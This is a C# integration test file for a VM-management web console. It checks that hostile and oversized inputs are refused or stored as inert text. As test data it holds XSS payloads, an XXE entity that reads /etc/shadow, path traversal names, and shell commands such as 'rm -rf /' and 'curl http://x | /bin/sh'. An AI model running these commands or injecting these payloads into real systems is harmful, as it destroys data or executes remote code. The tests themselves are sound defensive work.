// The inventory's write methods and the template services with the hostile and oversized values of
// shared/notes/security.md: each is refused by a sentence naming the rule, and the qube is left exactly as it was.
// Markup and XML in free text is stored as text and never adds an element to the domain's XML.
using System.Xml.Linq;
using Microsoft.EntityFrameworkCore;
using QubesWeb.Data;
using QubesWeb.Data.Qubes;
using QubesWeb.Hypervisor.Domains;
using QubesWeb.Services.Estate;
using QubesWeb.Services.Storage;
using InventoryService = QubesWeb.Data.Qubes.Inventory;

namespace QubesWeb.IntegrationTests.Security;

public sealed class BadInputInventoryTests
{
    private static string State(Qube q) =>
        $"{q.Label.Name}|{q.MemoryMiB}|{q.VCpus}|{q.NetVm?.Name}|{q.Template?.Name}|{q.Notes}|" +
        string.Join(",", q.Features.OrderBy(f => f.Key, StringComparer.Ordinal).Select(f => $"{f.Key}={f.Value}"));

    private static Dictionary<string, string?> Feature(string key, string? value) => new() { [key] = value };

    public static TheoryData<string, string, string> BadChanges => new()
    {
        // what, qube, a phrase of the refusal; the changes are made from "what" below
        { "notes over 64 KiB", "work", $"at most {QubeRules.MaxNotesLength} characters" },
        { "notes with NUL", "work", "control characters" },
        { "notes with U+202E", "work", "U+202E (right-to-left override)" },
        { "notes with a zero-width space", "work", "U+200B (zero width space)" },
        { "memory 0", "work", "Memory must be between" },
        { "memory negative", "work", "Memory must be between" },
        { "memory above the limit", "work", "Memory must be between" },
        { "vcpus 0", "work", "VCPUs must be between" },
        { "vcpus above the limit", "work", "VCPUs must be between" },
        { "a 4 KB label", "work", "There is no label" },
        { "a markup label", "work", "There is no label" },
        { "a traversal netvm", "work", "There is no qube named '../sys-net' to use as netvm" },
        { "a NUL template", "vault", "There is no template named 'fedora-42?'" },
        { "a feature key with spaces", "work", "Invalid feature key" },
        { "a markup feature key", "work", "Invalid feature key" },
        { "a feature key over 128", "work", $"at most {QubeFeatureRules.MaxKeyLength} characters" },
        { "a feature value over 4 KiB", "work", $"at most {QubeFeatureRules.MaxValueLength} characters" },
        { "a feature value with NUL", "work", "control characters" },
        { "a feature value with U+202E", "work", "invisible formatting characters" },
        { "a relative update command", "fedora-42", "must start with the program's absolute path" },
        { "a shell update command", "fedora-42", "without a shell, so ';'" },
        { "a substituting update command", "fedora-42", "'$', '(', ')'" },
        { "a piped update command", "devbox", "'|'" },
    };

    private static QubeChanges ChangesFor(string what) => what switch
    {
        "notes over 64 KiB" => new(Notes: new string('n', QubeRules.MaxNotesLength + 1)),
        "notes with NUL" => new(Notes: "fine\0hidden"),
        "notes with U+202E" => new(Notes: "vault\u202Egpj.exe"),
        "notes with a zero-width space" => new(Notes: "wo\u200Brk"),
        "memory 0" => new(MemoryMiB: 0),
        "memory negative" => new(MemoryMiB: -400),
        "memory above the limit" => new(MemoryMiB: QubeRules.MaxMemoryMiB + 1),
        "vcpus 0" => new(VCpus: 0),
        "vcpus above the limit" => new(VCpus: QubeRules.MaxVCpus + 1),
        "a 4 KB label" => new(Label: new string('r', 4096)),
        "a markup label" => new(Label: "<img src=x onerror=alert(1)>"),
        "a traversal netvm" => new(NetVm: "../sys-net"),
        "a NUL template" => new(Template: "fedora-42\0"),
        "a feature key with spaces" => new(Features: Feature("my key", "1")),
        "a markup feature key" => new(Features: Feature("<svg onload=alert(1)>", "1")),
        "a feature key over 128" => new(Features: Feature(new string('k', QubeFeatureRules.MaxKeyLength + 1), "1")),
        "a feature value over 4 KiB" => new(Features: Feature("note", new string('v', QubeFeatureRules.MaxValueLength + 1))),
        "a feature value with NUL" => new(Features: Feature("note", "a\0b")),
        "a feature value with U+202E" => new(Features: Feature("note", "a\u202Eb")),
        "a relative update command" => new(Features: Feature(QubeFeatureRules.UpdateCommandKey, "rm -rf /")),
        "a shell update command" => new(Features: Feature(QubeFeatureRules.UpdateCommandKey, "/usr/bin/dnf -y upgrade; reboot")),
        "a substituting update command" => new(Features: Feature(QubeFeatureRules.UpdateCommandKey, "/usr/bin/dnf $(id)")),
        "a piped update command" => new(Features: Feature(QubeFeatureRules.UpdateCommandKey, "/usr/bin/curl http://x | /bin/sh")),
        _ => throw new ArgumentOutOfRangeException(nameof(what)),
    };

    [Theory]
    [MemberData(nameof(BadChanges))]
    public async Task A_bad_change_is_refused_by_its_rule_and_the_qube_is_left_as_it_was(string what, string qube, string phrase)
    {
        await using var host = await ConsoleHost.StartAsync();
        var inventory = host.Get<InventoryService>();
        var before = State(await inventory.GetAsync(qube));

        var error = await Assert.ThrowsAsync<QubeRuleException>(() => inventory.UpdateAsync(qube, ChangesFor(what), qubeIsRunning: false));

        Assert.Contains(phrase, error.Message);
        Assert.DoesNotContain('\0', error.Message);
        Assert.True(error.Message.Length < 600, $"{what}: a message of {error.Message.Length} characters");
        Assert.Equal(before, State(await inventory.GetAsync(qube)));
    }

    [Fact]
    public async Task An_update_command_that_is_a_program_and_its_arguments_is_saved()
    {
        await using var host = await ConsoleHost.StartAsync();
        var inventory = host.Get<InventoryService>();

        await inventory.UpdateAsync("fedora-42", new QubeChanges(Features: Feature(QubeFeatureRules.UpdateCommandKey, "/usr/bin/dnf -y upgrade --refresh")));

        Assert.Equal("/usr/bin/dnf -y upgrade --refresh", (await inventory.GetAsync("fedora-42")).Feature(QubeFeatureRules.UpdateCommandKey));
    }

    [Fact]
    public async Task A_new_qube_with_any_oversized_or_hostile_field_is_refused_whole_and_no_row_is_written()
    {
        await using var host = await ConsoleHost.StartAsync();
        var inventory = host.Get<InventoryService>();
        var bad = new (NewQube Request, string Phrase)[]
        {
            (new("fresh", QubeClass.AppVM, "blue", "fedora-42", Notes: new string('n', QubeRules.MaxNotesLength + 1)), "Notes have at most"),
            (new("fresh", QubeClass.AppVM, "blue", "fedora-42", MemoryMiB: 0), "Memory must be between"),
            (new("fresh", QubeClass.AppVM, "blue", "fedora-42", VCpus: 100_000), "VCPUs must be between"),
            (new("fresh", QubeClass.AppVM, "blue", "fedora-42", Features: new Dictionary<string, string> { ["k"] = new('v', 5000) }), "feature value has at most"),
            (new("fresh", QubeClass.AppVM, "blue", "fedora-42", Features: new Dictionary<string, string> { [QubeFeatureRules.UpdateCommandKey] = "sh -c x" }), "absolute path"),
            (new("fresh", QubeClass.AppVM, "blue", "../fedora-42"), "There is no template named '../fedora-42'"),
            (new("fresh", QubeClass.AppVM, "<b>blue</b>", "fedora-42"), "There is no label"),
            (new("fresh\0", QubeClass.AppVM, "blue", "fedora-42"), "Invalid name"),
            (new("Domain-0", QubeClass.AppVM, "blue", "fedora-42"), "is reserved"),
            (new("sys-net", QubeClass.AppVM, "blue", "fedora-42"), "already exists"),
        };
        var before = (await inventory.ListAsync()).Count;

        foreach (var (request, phrase) in bad)
            Assert.Contains(phrase, (await Assert.ThrowsAsync<QubeRuleException>(() => inventory.CreateAsync(request))).Message);
        // All or nothing: one bad qube among good ones writes none of them.
        await Assert.ThrowsAsync<QubeRuleException>(() => inventory.CreateAllAsync(
            [new NewQube("good-one", QubeClass.AppVM, "blue", "fedora-42"), bad[0].Request]));

        Assert.Equal(before, (await inventory.ListAsync()).Count);
        Assert.Null(await inventory.FindAsync("good-one"));
    }

    [Fact]
    public async Task Markup_and_XML_in_notes_are_stored_as_text_and_add_nothing_to_the_domain_XML()
    {
        await using var host = await ConsoleHost.StartAsync();
        var inventory = host.Get<InventoryService>();
        const string hostile = "<img src=x onerror=alert(1)>\"><svg onload=alert(1)></script>]]><!ENTITY x SYSTEM \"file:///etc/shadow\">&x;";

        await inventory.UpdateAsync("work", new QubeChanges(Notes: hostile, Features: Feature("note", hostile)));
        var saved = await inventory.GetForDomainAsync("work");
        var hypervisor = host.Get<IHypervisor>();
        hypervisor.Define(DomainSpecs.From(saved));

        Assert.Equal(hostile, saved.Notes);
        Assert.Equal(hostile, saved.Feature("note"));
        var xml = XDocument.Parse(hypervisor.GetXml("work"));
        Assert.Equal("work", Assert.Single(xml.Root!.Elements("name")).Value);
        Assert.DoesNotContain(xml.Descendants(), e => e.Name.LocalName is "img" or "svg" or "script");
    }

    [Theory]
    [InlineData(-1)]
    [InlineData(RootRetention.MaxRevisionsToKeep + 1)]
    [InlineData(int.MinValue)]
    [InlineData(int.MaxValue)]
    public async Task Revisions_to_keep_out_of_range_is_refused_saying_the_range_and_nothing_changes(int keep)
    {
        await using var host = await ConsoleHost.StartAsync();
        var revisions = host.Get<RootRevisions>();
        var before = (await revisions.HistoryAsync("fedora-42"))!;

        var error = await Assert.ThrowsAsync<QubeRuleException>(() => host.Get<RootRetention>().SetRevisionsToKeepAsync("fedora-42", keep));

        Assert.Equal($"revisions_to_keep is between 0 and {RootRetention.MaxRevisionsToKeep}; {keep} is not.", error.Message);
        Assert.Equal(before.RevisionsToKeep, (await revisions.HistoryAsync("fedora-42"))!.RevisionsToKeep);
        Assert.Equal(before.Revisions.Count, (await revisions.HistoryAsync("fedora-42"))!.Revisions.Count);
    }

    [Theory]
    [InlineData("../fedora-42")]
    [InlineData("fedora-42\0")]
    [InlineData("<script>alert(1)</script>")]
    public async Task Revisions_to_keep_of_a_hostile_name_is_refused_as_no_such_qube_and_nothing_is_written(string name)
    {
        await using var host = await ConsoleHost.StartAsync();
        var retention = host.Get<RootRetention>();
        await using var db = await host.Get<IDbContextFactory<InventoryDbContext>>().CreateDbContextAsync();
        var keptBefore = await db.Volumes.Select(v => v.RevisionsToKeep).ToListAsync();

        var error = await Assert.ThrowsAsync<QubeRuleException>(() => retention.SetRevisionsToKeepAsync(name, 3));

        Assert.StartsWith("There is no qube named", error.Message);
        Assert.DoesNotContain('\0', error.Message);
        Assert.Equal(keptBefore, await db.Volumes.Select(v => v.RevisionsToKeep).ToListAsync());
    }
}
